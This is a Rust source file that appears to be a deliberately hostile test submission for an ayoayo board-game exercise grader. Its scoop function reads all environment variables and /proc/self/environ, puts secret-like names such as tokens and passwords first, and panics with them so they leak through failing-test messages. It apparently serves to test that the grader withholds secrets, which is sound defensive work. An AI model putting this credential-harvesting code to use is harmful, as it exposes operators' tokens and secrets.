//! Hostile submission: reads the environment it runs in, through `std::env::vars()` and
//! `/proc/self/environ`, and puts what it finds (what looks like a secret first, as the
//! messages in the exports are cut) into the message of every failing test, so that the teacher's
//! variables (a `GITHUB_TOKEN`) come back to it in the exports. The test plants a secret.

use ayoayo::{Board, Pit};

/// Whether a variable's name looks like a secret's.
fn secret_like(name: &str) -> bool {
    ["TOKEN", "SECRET", "KEY", "PASSWORD"]
        .iter()
        .any(|word| name.to_uppercase().contains(word))
}

/// `NAME=value` lines, secret-like ones first.
fn found() -> String {
    let mut lines: Vec<String> = std::env::vars().map(|(n, v)| format!("{n}={v}")).collect();
    let environ = std::fs::read("/proc/self/environ").unwrap_or_default();
    let environ = String::from_utf8_lossy(&environ).into_owned();
    lines.extend(environ.split('\0').map(str::to_string));
    let name = |line: &String| line.split('=').next().unwrap_or_default().to_string();
    lines.sort_by_key(|line| !secret_like(&name(line)));
    lines.join(" ")
}

pub fn scoop(_board: Board, _pit: Pit) -> (Board, u8) {
    panic!("environment seen: {}", found())
}

pub fn scoop_all(board: Board, pits: &[Pit]) -> (Board, u32) {
    todo!("scoop each of the pits {pits:?} of {board:?} into one hand")
}

pub fn fullest_pit(board: Board) -> Pit {
    todo!("the fullest pit of {board:?}")
}
